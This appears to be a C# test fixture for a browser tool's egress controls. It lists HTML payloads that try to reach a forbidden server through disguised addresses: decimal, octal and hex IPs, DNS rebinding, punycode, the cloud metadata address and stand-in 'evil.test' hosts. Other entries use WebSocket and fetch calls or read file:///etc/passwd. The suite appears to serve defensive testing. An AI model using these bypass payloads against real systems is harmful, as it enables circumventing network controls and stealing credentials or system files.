namespace GovernedMcp.Browser.Tests.Egress.Escapes;

/// <summary>The forbidden server, or what is meant to be taken for the allowed one, written in odd ways.</summary>
public static class Names
{
    public static IReadOnlyList<Escape> All { get; } =
    [
        new("ip-decimal", "<img src='http://2130706433:{P}/e/{N}'>"),
        new("ip-octal", "<img src='http://0177.0.0.1:{P}/e/{N}'>"),
        new("ip-hex-short", "<img src='http://0x7f.1:{P}/e/{N}'>"),
        new("ip-full-width", "<img src='http://１２７.0.0.1:{P}/e/{N}'>"),
        new("ip6", "<img src='http://[::1]:{P}/e/{N}'>") { Real = false },
        new("ip6-mapped", "<img src='http://[::ffff:127.0.0.1]:{P}/e/{N}'>") { Told = Told.Nowhere, Real = false },
        new("localhost", "<img src='http://localhost:{P}/e/{N}'>") { Real = false },
        new("any-localhost", "<img src='http://x.localhost:{P}/e/{N}'>") { Real = false },
        new("trailing-dot", "<img src='http://127.0.0.1.:{P}/e/{N}'>"),
        new("trailing-dot-name", "<img src='http://localhost.:{P}/e/{N}'>") { Told = Told.Nowhere, Real = false },
        new("port-change", "<img src='http://127.0.0.1:{P}/e/{N}'>"),
        new("port-change-ws", "<script>new WebSocket('ws://127.0.0.1:{P}/e/{N}')</script>") { Told = Told.AsTunnel },
        new("dns-rebind", "<img src='http://127-0-0-1.rebind.test:{P}/e/{N}'>") { Real = false },
        new("host-suffix", "<img src='http://127.0.0.1.evil.test:{HP}/e/{N}'>") { Real = false },
        new("host-prefix", "<img src='http://evil127.0.0.1.test:{HP}/e/{N}'>") { Real = false },
        new("host-dots", "<img src='http://127a0a0a1.test:{HP}/e/{N}'>") { Real = false },
        new("path-confusion", "<img src='http://{AT}/http://127.0.0.1:{HP}/e/{N}'>") { Told = Told.Nowhere },
        new("punycode", "<img src='http://xn--127-0mc.test:{HP}/e/{N}'>") { Told = Told.Nowhere, Real = false },
        new("upper-case", "<img src='HTTP://EVIL.TEST:{HP}/e/{N}'>") { Real = false },
        new("metadata", "<img src='http://169.254.169.254/e/{N}'>") { Real = false },
        new("https", "<script>fetch('https://{AT}/e/{N}', { mode: 'no-cors' })</script>") { Told = Told.AsTunnel, Real = false },
        new("wss", "<script>new WebSocket('wss://{AT}/e/{N}')</script>") { Told = Told.AsTunnel, Real = false },
        new("file", "<img src='file:///etc/passwd'><iframe src='file:///etc/passwd'></iframe>") { Told = Told.Nowhere, Real = false },
        new("ftp", "<img src='ftp://{AT}/e/{N}'>") { Told = Told.Nowhere, Real = false },
    ];
}
